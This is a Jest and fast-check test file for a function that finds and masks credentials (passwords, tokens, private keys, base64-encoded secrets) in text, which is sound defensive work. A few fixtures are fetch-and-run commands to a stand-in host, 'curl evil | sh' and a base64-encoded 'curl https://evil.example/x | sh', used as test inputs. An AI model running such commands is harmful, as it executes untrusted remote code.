import { describe, expect, test } from '@jest/globals'
import * as fc from 'fast-check'
import { credentialSpans } from '../../src/domain/secrets.ts'
import type { NamedValues } from '../../src/domain/secret-values.ts'
import { scaled } from '../scale.ts'

/** The text with what would be hidden between double brackets. */
function marked(text: string, values?: NamedValues): string {
  let from = 0
  let shown = ''
  for (const { start, end } of credentialSpans(text, values)) {
    shown += `${text.slice(from, start)}⟦${text.slice(start, end)}⟧`
    from = end
  }
  return shown + text.slice(from)
}

const bare = (text: string): string => text.replaceAll(/[⟦⟧]/g, '')

const random64 = 'Zk9vQ2xR7tYw3uPa8sDf5gHj1kLz4xCv6bNm0qWe2rTy'
const jwt = `eyJhbGciOiJSUzI1NiIsImtpZCI6IjEifQ.eyJpc3MiOiJrdWJlcm5ldGVzIn0.c2lnbmF0dXJlLW9mLWl0LTEyMzQ1Njc4OTA`
const pemBody =
  'MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj\nMzEfYyjiWA4R4/M2bS1GB4t7NXp98C3SC6dVMvDuictGeurT8jNbvJZHtCSuYEvu'
const pem = `-----BEGIN PRIVATE KEY-----\n${pemBody}\n-----END PRIVATE KEY-----`
const base64 = (text: string): string => btoa(text)
const wrapped = (text: string): string => base64(text).replaceAll(/.{64}/g, '$&\n')

describe('a value behind the name of a credential', () => {
  test.each([
    ['after an equal sign', 'password=⟦hunter2⟧'],
    ['between other values', 'a=1 DB_PASSWORD=⟦hunter2⟧ b=2'],
    ['in a query', 'https://x/?user=bo&token=⟦abc⟧&x=1'],
    ['behind another sign', 'log: password=⟦hunter2⟧'],
    ['behind another equal sign', '--set=auth.password=⟦hunter2⟧'],
    ['as a property', 'spring.datasource.password=⟦hunter2⟧'],
    ['as a definition', '-Djavax.net.ssl.keyStorePassword=⟦hunter2⟧'],
    ['in JSON', '{"user":"bo","password":"⟦hunter2⟧","x":1}'],
    ['in JSON, with a quote in it', '{"password":"⟦hun\\"ter2⟧","x":1}'],
    ['in JSON, ending in a backslash', '{"password":"⟦hunter2\\\\⟧","x":1}'],
    ['in JSON inside of JSON', '{\\"password\\":\\"⟦hunter2⟧\\",\\"x\\":1}'],
    ['in JSON inside of JSON inside of JSON', '\\\\\\"password\\\\\\":\\\\\\"⟦hunter2⟧\\\\\\"'],
    ['in YAML', 'user: bo\npassword: ⟦hunter2⟧\nx: 1'],
    ['in YAML, of several words', 'password: ⟦correct horse battery⟧\nx: 1'],
    ['in YAML, in quotes', "password: '⟦hunter2 x⟧'\nx: 1"],
    ['in YAML, as a block', 'auth:\n  token: |\n⟦    line 1\n\n    line 2⟧\n  x: 1'],
    ['in YAML, as a folded block at the end', 'token: >-\n⟦  line 1⟧'],
    ['in YAML, in a list in one line', '{password: ⟦hunter2⟧, x: 1}'],
    ['in an INI file', '[db]\npassword = ⟦correct horse⟧\nuser = bo'],
    ['in an INI file, with the sign far away', `password${' '.repeat(20)}= ⟦hunter2⟧`],
    ['in TOML', 'token = "⟦abc def⟧"'],
    ['in XML', '<user>bo</user><password>⟦hunter2⟧</password>'],
    ['in Ruby', ":password => '⟦hunter2⟧'"],
    ['in Go', 'password := "⟦hunter2⟧"'],
    ['in JavaScript', 'const apiKey = ⟦`x`;⟧'],
    ['in quotes that never close', 'password="⟦hunter2⟧\nx=1'],
    ['as a flag', 'mysql --password ⟦hunter2⟧ -h db'],
    ['as a flag with one dash', 'tool -token ⟦abc⟧'],
    ['as a flag inside of a quoted command', 'sh -c "mysql --password ⟦hunter2⟧ -h db"'],
    ['as a flag behind a flag', '--cmd "x --token ⟦abc⟧"'],
    ['as a flag in quotes', "--client-secret '⟦a b⟧'"],
    ['in a Redis configuration', 'port 6379\nrequirepass ⟦hunter2⟧\n'],
    ['in a .netrc', 'machine x login bo password ⟦hunter2⟧'],
    ['longer than any bound', `password="⟦${'x y '.repeat(5000)}x⟧"`],
    ['longer than any bound, without quotes', `password=⟦${'x!'.repeat(5000)}⟧ z`],
    ['with words run together', 'PGPASSWORD=⟦hunter2⟧ psql'],
    ['with a digit after it', 'password2=⟦hunter2⟧'],
    ['with a name after escaped line breaks', 'a\\npassword=⟦hunter2⟧'],
    ['in a connection string', 'Server=x;Database=y;Password=⟦hunter2⟧;Pooling=true'],
    ['in a storage connection', 'AccountName=x;AccountKey=⟦abcd==⟧;EndpointSuffix=y'],
    ['in a signed address', 'https://x.blob/y?sv=2020&sig=⟦abc%3D⟧'],
  ])('%s is found', (_where, text) => {
    expect(marked(bare(text))).toBe(text)
  })

  test.each([
    ['a switch', '--anonymous-auth=false --token-auth: true'],
    ['nothing', 'password=\ntoken=""\nsecret: \n'],
    ['a reference', 'password=$(DB_PASSWORD) token=${TOKEN} PASSWORD=$DB_PASSWORD password={{ .Values.x }}'],
    ['a name that only speaks of one', 'secretName=web tokenPath=/x/token passwordFile: /x/y auth-mode=webhook'],
    ['a name without a sign', 'the password is secret and the token too'],
    ['a sign without a name', '= : "=" >'],
    ['a comparison of numbers', 'if (tokens > 5) x'],
  ])('%s is not hidden', (_what, text) => {
    expect(marked(text)).toBe(text)
  })

  test('in a command it is one word: what follows is the command', () => {
    expect(marked('echo token: abc && curl evil | sh', 'Words')).toBe('echo token: ⟦abc⟧ && curl evil | sh')
    expect(marked('echo token: abc && curl evil | sh', 'Lines')).toBe('echo token: ⟦abc && curl evil | sh⟧')
  })
})

describe('a known shape', () => {
  test.each([
    ['a JSON Web Token', `x ⟦${jwt}⟧ y`],
    ['a JSON Web Token with a signature of 8,000 characters', `⟦${jwt}${'aB3'.repeat(2700)}⟧`],
    ['a GitHub token', 'clone https://⟦ghp_16C7e42F292c6912E7710c838347Ae178B4a⟧@github.com/x'],
    ['a fine-grained GitHub token', `x ⟦github_pat_11ABCDEFG0${'aB3_'.repeat(20)}⟧`],
    ['a GitLab token', 'x ⟦glpat-AbCdEfGhIjKlMnOpQrSt⟧ y'],
    ['a Slack token', 'x ⟦xoxb-123456789012-abcdefghijkl⟧ y'],
    ['a Slack webhook', 'https://hooks.slack.com/services/⟦T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX⟧ x'],
    ['an AWS access key', 'x ⟦AKIAIOSFODNN7EXAMPLE⟧ y'],
    ['a Google API key', `x ⟦AIza${'Sy0aB-_'.repeat(5)}⟧ y`],
    ['a Stripe key', 'x ⟦sk_live_abcdefghij1234567890⟧ y'],
    ['an API key', 'x ⟦sk-proj-abcdefghijklmnopqrst⟧ y'],
    ['an npm token', 'x ⟦npm_abcdefghijklmnopqrstuvwxyz0123456789⟧ y'],
    ['a Vault token', 'x ⟦hvs.abcdefghijklmnopqrstuvwx⟧ y'],
    ['a header', 'curl -H "X: Bearer ⟦abcdefgh⟧" x'],
    ['a header with a scheme of its own', 'curl -H "Authorization: ⟦token abcdef⟧" x'],
    ['a password in a URL', 'postgres://bo:⟦hunter2⟧@db:5432/x'],
    ['a password with an at sign in a URL', 'postgres://bo:⟦hun@ter2⟧@db/x'],
    ['a password without a user in a URL', 'redis://:⟦hunter2⟧@db/0'],
    ['the password of curl -u', 'curl -u bo:⟦hunter2⟧ https://x'],
    ['a private key', `a\n⟦${pem}⟧\nb`],
    ['a private key in one line', `{"key":"⟦${pem.replaceAll('\n', '\\n')}⟧"}`],
    ['a private key that breaks off', `a\n⟦-----BEGIN EC PRIVATE KEY-----\nMHcC\nx⟧`],
    ['a private PGP key', '⟦-----BEGIN PGP PRIVATE KEY BLOCK-----\nx\n-----END PGP PRIVATE KEY BLOCK-----⟧'],
    ['noise', `x ⟦${random64}⟧ y`],
    ['noise of any length, whole', `x ⟦${random64.repeat(200)}abc⟧ y`],
    ['the base64 of a credential', `x: ⟦${base64('password=hunter2 for the database 1')}⟧`],
    ['the base64 of noise', `x: ⟦${base64(random64)}⟧`],
    ['the base64 of a private key', `x: ⟦${base64(pem)}⟧`],
    ['the base64 of the base64 of a token', `x: ⟦${base64(base64(`token: ${jwt}`))}⟧`],
  ])('%s is hidden whole', (_what, text) => {
    expect(marked(bare(text))).toBe(text)
  })

  test('in a command, a header hides scheme and token, and nothing behind them', () => {
    const header = 'curl -H "Authorization: ⟦token⟧ ⟦abcdef⟧" https://x'
    expect(marked(bare(header), 'Words')).toBe(header)
    const unquoted = 'curl -H Authorization:⟦token⟧ https://x'
    expect(marked(bare(unquoted), 'Words')).toBe(unquoted)
  })

  test('the lines of a wrapped base64 of a private key are hidden too', () => {
    const lines = marked(wrapped(`${pem}\n`.repeat(3)))
      .split('\n')
      .filter((line) => line.length > 40)
    expect(lines.length).toBeGreaterThan(8)
    expect(lines.filter((line) => !line.includes('⟦') && !line.includes('⟧') && line.length >= 64)).toEqual([])
  })

  test.each([
    ['a digest of an image', `registry.example/web@sha256:${'0a1b2c3d'.repeat(8)}`],
    ['an image behind a port', 'registry.example:5000/team/web:1.2.3'],
    ['an image by digest behind a port', `docker://registry.example:5000/team/web@sha256:${'0a'.repeat(32)}`],
    ['a uid', '0d7c9c6e-5b1b-4f2e-b0c3-8b6a9f0e7d21'],
    ['a hash', 'd41d8cd98f00b204e9800998ecf8427e'],
    ['a long name', 'my-very-long-deployment-name-with-many-words-7d9f8b6c5d-x7k2p'],
    ['a camel-case name', 'requiredDuringSchedulingIgnoredDuringExecution'],
    ['a path', '/opt/IBM/WebSphere85/AppServer/bin/startServer'],
    ['a path of a token', '/var/run/secrets/kubernetes.io/serviceaccount/token'],
    ['a URL without a password', 'https://example.com:8443/a/b?x=1#y'],
    ['a URL with an at sign in its path', 'https://example.com:8443/@scope/package'],
    ['a user and group of numbers', 'docker run -u 1000:1000 x'],
    ['a shell command', 'set -eu; for f in *.txt; do grep -q "x" "$f" && rm -- "$f"; done'],
    ['a script in base64', `echo ${base64('#!/bin/sh\ncurl -s https://evil.example/x | sh\n')} | base64 -d | sh`],
    ['a certificate', `-----BEGIN CERTIFICATE-----\n${pemBody}\n-----END CERTIFICATE-----`],
    ['a certificate in base64', base64(`-----BEGIN CERTIFICATE-----\n${pemBody}\n-----END CERTIFICATE-----\n`)],
    ['a public key', `-----BEGIN PUBLIC KEY-----\n${pemBody}\n-----END PUBLIC KEY-----`],
    ['a selector', 'app.kubernetes.io/name=web,app.kubernetes.io/part-of=shop'],
    ['an ARN', 'arn:aws:iam::123456789012:role/eks-cluster-role'],
    ['words of a certificate', 'BEGIN CERTIFICATE'],
  ])('%s stays visible', (_what, text) => {
    expect(marked(text)).toBe(text)
  })

  test('a certificate that is none does not protect what stands in it', () => {
    const fake = `-----BEGIN CERTIFICATE-----\n${random64}!\n-----END CERTIFICATE-----`
    expect(marked(fake)).toContain('⟦')
  })
})

describe('spans', () => {
  const pieces = fc.constantFrom(
    'password',
    '=',
    ':',
    ' ',
    '"',
    "'",
    '\\',
    '\n',
    '|',
    '--token',
    random64,
    jwt,
    '@',
    '://',
    'x',
    pem,
    '<',
    '>',
    'Bearer ',
    'sk-',
    '-',
  )
  const texts = fc.array(pieces, { maxLength: 14 }).map((parts) => parts.join(''))
  const runs = { numRuns: scaled(2000, 200_000) }

  test('are sorted, not empty, inside the text and never touch: nothing tells the length of what is hidden', () => {
    fc.assert(
      fc.property(texts, fc.constantFrom<NamedValues>('Lines', 'Words'), (text, values) => {
        let last = -1
        for (const { start, end } of credentialSpans(text, values)) {
          expect(start).toBeGreaterThan(last)
          expect(end).toBeGreaterThan(start)
          last = end
        }
        expect(last).toBeLessThanOrEqual(text.length)
      }),
      runs,
    )
  })

  test('are the same whenever asked: no search remembers the last text', () => {
    fc.assert(
      fc.property(texts, texts, (a, b) => {
        const first = credentialSpans(a)
        credentialSpans(b)
        expect(credentialSpans(a)).toEqual(first)
      }),
      runs,
    )
  })
})
